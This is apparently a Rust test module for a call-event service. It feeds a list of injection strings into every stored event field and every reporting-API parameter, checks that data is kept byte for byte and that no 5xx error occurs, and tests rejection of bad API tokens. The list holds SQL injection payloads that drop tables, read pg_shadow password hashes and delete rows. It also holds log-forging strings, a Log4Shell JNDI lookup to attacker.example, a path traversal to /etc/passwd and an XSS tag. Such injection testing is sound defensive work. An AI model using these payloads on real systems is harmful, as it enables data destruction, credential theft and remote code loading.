//! Injection strings in every stored field and in every reporting-API parameter, and the reporting
//! API's tokens.

use base64::Engine;
use serde_json::{json, Value};

use crate::fixtures::*;
use crate::helpers::*;
use crate::reporting::API_TOKEN;

use super::case::{Case, Expect};
use super::T;

/// SQL- and log-injection strings, and other text that must be kept as sent.
const INJECTIONS: &[&str] = &[
    "' OR '1'='1",
    "'; DROP TABLE events; --",
    "1; SELECT pg_sleep(30)--",
    "\" OR \"\"=\"",
    "') UNION SELECT usename, passwd FROM pg_shadow --",
    "$$; TRUNCATE event_dedup; $$",
    "%' OR 1=1 --",
    "\\'; COMMIT; DELETE FROM calls; --",
    "line one\nlevel=ERROR msg=\"forged entry\"",
    "\r\n{\"level\":\"ERROR\",\"fields\":{\"message\":\"forged\"}}",
    "\u{1b}[31mred\u{1b}[0m \u{7}",
    "${jndi:ldap://attacker.example/a}",
    "../../../../etc/passwd",
    "<script>alert(1)</script>",
    "\u{202e}txt.exe \u{fe0f} 𝕏 中文 é",
];

/// Every string field of a GA event holding each injection string: stored as sent, byte for byte.
pub(super) fn injection_cases() -> Vec<Case> {
    let g = "injection into events";
    let mut cases = Vec::new();
    let mut n = 0;
    for text in INJECTIONS {
        for field in [
            "id",
            "source",
            "type",
            "subject",
            "data.callConnectionId",
            "data.serverCallId",
            "data.correlationId",
            "data.operationContext",
            "data.resultInformation.message",
            "data.participants.0.identifier.rawId",
            "data.participants.0.participantId",
        ] {
            n += 1;
            let id = format!("inj-{n}");
            let mut event = b_participants(
                &id,
                &format!("c-inj-{n}"),
                1,
                &[(phone("+14255550100"), false, false)],
                T,
            );
            event["data"]["operationContext"] = Value::from("ctx");
            event["data"]["resultInformation"] =
                json!({"code": 200, "subCode": 0, "message": "ok"});
            let pointer = format!("/{}", field.replace('.', "/"));
            let (parent, key) = pointer.rsplit_once('/').unwrap();
            event.pointer_mut(parent).unwrap()[key] = Value::from(*text);
            let stored_id = if field == "id" {
                (*text).to_owned()
            } else {
                id.clone()
            };
            if field == "id" {
                event["source"] = Value::from(format!("src-{n}"));
            }
            let raw = event.to_string();
            let mut case = Case::callback(g, format!("{field} = {text:?}"), format!("[{raw}]"));
            case.verbatim = Some((stored_id, raw));
            cases.push(case);
        }
        n += 1;
        let mut event = b_tone(&format!("inj-{n}"), "c-inj", 1, "one", T);
        event["time"] = Value::from(*text);
        cases.push(
            Case::callback(g, format!("time = {text:?}"), json!([event]).to_string())
                .refused(400, "invalid_event")
                .message("field `time` must be an RFC 3339 timestamp"),
        );
    }
    cases
}

fn encode(s: &str) -> String {
    let mut out = String::new();
    for b in s.bytes() {
        if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
            out.push(b as char);
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

/// Every reporting-API parameter and path id holding each injection string: a 200 or a 400 (a
/// 404 for an id that names nothing), never a 5xx; and the events stored with them are found.
pub(super) fn reporting_cases() -> Vec<Case> {
    let g = "injection into the reporting API";
    let mut cases = Vec::new();
    let params: &[(&str, &[&str])] = &[
        (
            "/api/v1/calls",
            &[
                "from",
                "to",
                "state",
                "outcome",
                "participant",
                "cursor",
                "limit",
                "order",
            ],
        ),
        (
            "/api/v1/events",
            &[
                "from",
                "to",
                "type",
                "call_id",
                "correlation_id",
                "operation_context",
                "auth_scheme",
                "json_path",
                "json_value",
                "cursor",
                "limit",
                "order",
            ],
        ),
        (
            "/api/v1/events/export",
            &["format", "type", "call_id", "json_path"],
        ),
        ("/api/v1/reports/summary", &["from", "to", "bucket"]),
        (
            "/api/v1/participants/x/calls",
            &["cursor", "limit", "order"],
        ),
        (
            "/api/v1/calls/c-inj-1/events",
            &["cursor", "limit", "order"],
        ),
    ];
    let paths = [
        "/api/v1/calls/{}",
        "/api/v1/calls/{}/participants",
        "/api/v1/calls/{}/events",
        "/api/v1/calls/{}/dtmf",
        "/api/v1/calls/{}/media",
        "/api/v1/participants/{}/calls",
        "/api/v1/events/{}",
        "/api/v1/events/{}/raw",
    ];
    for text in INJECTIONS {
        let value = encode(text);
        for (route, names) in params {
            for name in *names {
                let extra = if *name == "json_path" {
                    "&json_value=1"
                } else if route.ends_with("export") && *name != "format" {
                    "&format=ndjson"
                } else {
                    ""
                };
                let sep = if route.contains('?') { '&' } else { '?' };
                let path = format!("{route}{sep}{name}={value}{extra}");
                cases.push(Case::get(g, format!("{route} {name}={text:?}"), path));
            }
        }
        for path in paths {
            cases.push(Case::get(
                g,
                format!("{path} with {text:?}"),
                path.replace("{}", &value),
            ));
        }
        // The events stored with this text in a filtered field are found by it, and only they.
        for filter in ["type", "call_id", "correlation_id", "operation_context"] {
            cases.push(
                Case::get(
                    g,
                    format!("found by {filter}={text:?}"),
                    format!("/api/v1/events?{filter}={value}"),
                )
                .expect(Expect::Found(1)),
            );
        }
        cases.push(Case::get(
            g,
            format!("json_value={text:?}"),
            format!("/api/v1/events?json_path=data.operationContext&json_value={value}"),
        ));
    }
    let g = "reporting API tokens";
    let bad_tokens = [
        ("no token", None),
        ("an empty bearer", Some("Bearer ".to_owned())),
        ("a wrong token", Some("Bearer not-the-token".to_owned())),
        (
            "the token with a suffix",
            Some(format!("Bearer {API_TOKEN}x")),
        ),
        (
            "the token's hash",
            Some(format!(
                "Bearer {}",
                calltrail::auth::tokens::hash_token(API_TOKEN)
            )),
        ),
        (
            "the scraper's token",
            Some(format!("Bearer {METRICS_TOKEN}")),
        ),
        (
            "Basic",
            Some(format!(
                "Basic {}",
                base64::engine::general_purpose::STANDARD.encode(format!("x:{API_TOKEN}"))
            )),
        ),
        ("SQL as a token", Some("Bearer ' OR '1'='1".to_owned())),
        ("the query secret", Some(format!("Bearer {SECRET}"))),
    ];
    for route in [
        "/api/v1/events",
        "/api/v1/calls",
        "/api/v1/openapi.json",
        "/api/v1/events/export?format=csv",
    ] {
        for (name, value) in &bad_tokens {
            let mut case = Case::get(g, format!("{route} with {name}"), route.to_owned())
                .without_header("authorization")
                .refused(401, "unauthorized");
            if let Some(v) = value {
                case = case.header("authorization", v.clone());
            }
            cases.push(case);
        }
    }
    cases.push(
        Case::get(
            g,
            "the query secret in the query string",
            format!("/api/v1/events?secret={SECRET}"),
        )
        .without_header("authorization")
        .refused(401, "unauthorized"),
    );
    cases
}
